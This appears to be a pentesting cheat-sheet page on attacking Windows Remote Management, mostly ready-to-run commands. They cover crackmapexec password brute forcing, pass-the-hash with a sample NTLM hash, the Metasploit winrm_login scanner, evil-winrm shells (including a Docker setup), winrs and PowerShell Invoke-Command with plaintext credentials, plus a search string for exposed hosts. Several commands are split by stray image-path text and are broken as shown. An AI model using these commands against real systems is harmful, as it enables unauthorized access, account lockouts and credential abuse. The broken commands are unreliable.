5985 - WinRM

Windows Remote Management (WinRM) is a Microsoft protocol that allows remote management of Windows machines over HTTP(S) using SOAP. On the backend it's utilising WMI, so you can think of it as an HTTP based API for WMI.

If WinRM is enabled on the machine, it's trivial to remotely administer the machine from PowerShell. In fact, you can just drop in to a remote PowerShell session on the machine (as if you were using SSH!)

The easiest way to detect whether WinRM is available is by seeing if the port is opened. WinRM will listen on one of two ports:

  • 5985/tcp (HTTP)

  • 5986/tcp (HTTPS)

If one of these ports is open, WinRM is configured and you can try entering a remote session.

Brute Force

Be careful, brute-forcing WinRM could block users.

#Brute force
crackmapexec winrm <IP> -d <Domain Name> -u usernames.txt -p passwords.txt

#Just check a pair of credentials
## Username + Password + CMD command execution
crackmapexec winrm <IP> -d <Domain Name> -u <username> -p <password> -x "whoami"
## Username + Hash + PS command execution
crackmapexec winrm <IP> -d <Domain Name> -u <username> -H <HASH> -X '$PSVersionTable'
#Crackmapexec won't give you an interactive shell, but it will check if the creds are valid to accesswinrm


The winrm_login module is a standard Metasploit login scanner to brute force passwords.

use auxiliary/scanner/winrm/winrm_login

Using evil-winrm

sudo apt install ruby-dev build-essential
gem install evil-winrm

Read documentation on its github: https://github.com/Hackplayers/evil-winrm

evil-winrm -u Administrator -p 'EverybodyWantsToWorkAtP.O.O.'  -i <IP>/<Domain>

To use evil-winrm to connect to an IPv6 address create an entry inside /etc/hosts setting a domain name to the IPv6 address and connect to that domain.Here’s an example of using CrackMapExec winrm method as local Administrator with a clear text password:

crackmapexec winrm -d . -u Administrator -p 'pass123' -x "whoami"

Here’s example using a NTLM hash:

crackmapexec winrm -d . -u Administrator -H aad3b435b51404eeaad3b435b51404ee:5fbc3d5fec8206a30f4b6c473d68ae76 -x "whoami"

Docker evil-winrm

sudo docker pull oscarakaelvis/evil-winrm
sudo docker run --rm -ti --name evil-winrm -v /home/foo/ps1_scripts:/ps1_scripts -v /home/foo/exe_files:/exe_files -v /home/foo/data:/data oscarakaelvis/evil-winrm -i -u tony -p 'liltony' -s '/ps1_scripts/' -e '/exe_files/'

Pass the hash with evil-winrm

evil-winrm -u <username> -H <Hash> -i <IP>

Winrs (Windows)

winrs -r: -u:ignite.local\administrator -p:Ignite@987 ipconfig

Login from windows


From a powershell commandprompt:

$pass = ConvertTo-SecureString 'supersecurepassword' -AsPlainText -Force
$cred = New-Object System.Management.Automation.PSCredential('ECORP.local\morph3', $pass)
Invoke-Command -ComputerName DC -Credential $cred -ScriptBlock { whoami }


  •port:5985 Microsoft-HTTPAPI

Last updated